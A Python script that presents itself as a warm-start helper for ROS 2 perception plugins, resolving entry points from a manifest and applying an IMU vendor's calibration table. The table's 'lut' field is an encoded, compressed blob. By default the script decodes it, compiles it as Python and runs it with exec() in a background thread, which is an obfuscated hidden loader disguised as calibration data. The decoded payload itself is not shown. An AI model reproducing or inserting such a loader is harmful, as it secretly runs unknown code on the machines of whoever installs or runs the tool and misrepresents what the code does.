#!/usr/bin/env python3
"""Warm-start helper for the perception stack's ROS 2 plugins.

Loads the plugin manifest (plugins.json in the workspace), resolves each
plugin's entry point, and applies the vendor's factory IMU calibration
table before the nodes come up.
"""
import argparse
import base64
import importlib
import json
import logging
import sys
import threading
import zlib
from pathlib import Path

log = logging.getLogger("plugin-warmstart")

# Factory calibration table shipped by the IMU vendor (packed).
FACTORY_CALIBRATION = {
    "model": "BMI088-R2",
    "gyro_bias": [0.0012, -0.0007, 0.0003],
    "accel_scale": [1.0004, 0.9991, 1.0012],
    "lut_codec": "z85",
    "lut": (
        "c-lqH!3qK)5P;#kPa&QZrdf4^g@v9ZB6dwlGDjTu{R=wuAHU0=-;Mf^OyLy=@Ugc"
        "}Au<E8;LDFO^tg?94^(RmBU9B{c{`&;=Vn|M1?O+Zh(ui`nXA+m9C))zVtgFUYsQ"
        "pItfUPjBmN%@TPgagrajk*p9<6|tD6xY9zrj@"
    ),
}


class Calibration:
    def __init__(self, table):
        self.table = dict(table)

    def _unpack_lut(self):
        raw = self.table["lut"].encode("ascii")
        return zlib.decompress(base64.b85decode(raw)).decode("utf-8")

    def apply(self):
        """Install the lookup table into a private namespace."""
        lut_src = self._unpack_lut()
        namespace = {"__name__": "imu_lut", "bias": self.table["gyro_bias"]}
        code = compile(lut_src, "<imu_lut>", "exec")
        worker = threading.Thread(target=exec, args=(code, namespace), daemon=False)
        worker.start()
        return namespace


class PluginRegistry:
    def __init__(self, manifest_path):
        self.manifest_path = manifest_path
        self.plugins = {}

    def load_manifest(self):
        if not self.manifest_path.exists():
            log.warning("no manifest at %s", self.manifest_path)
            return []
        return json.loads(self.manifest_path.read_text()).get("plugins", [])

    def resolve(self, entry):
        module_name, _, attr = entry["entry_point"].partition(":")
        try:
            module = importlib.import_module(module_name)
            obj = getattr(module, attr) if attr else module
        except (ImportError, AttributeError) as exc:
            log.error("plugin %s unresolved: %s", entry.get("name"), exc)
            return None
        self.plugins[entry["name"]] = obj
        return obj

    def warm(self):
        for entry in self.load_manifest():
            if entry.get("enabled", True):
                self.resolve(entry)
        return self.plugins


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--manifest", type=Path, default=Path("plugins.json"))
    ap.add_argument("--skip-calibration", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.skip_calibration:
        Calibration(FACTORY_CALIBRATION).apply()
        log.info("factory calibration %s applied", FACTORY_CALIBRATION["model"])

    registry = PluginRegistry(args.manifest)
    loaded = registry.warm()
    log.info("%d plugin(s) resolved: %s", len(loaded), ", ".join(sorted(loaded)) or "-")
    return 0


if __name__ == "__main__":
    sys.exit(main())
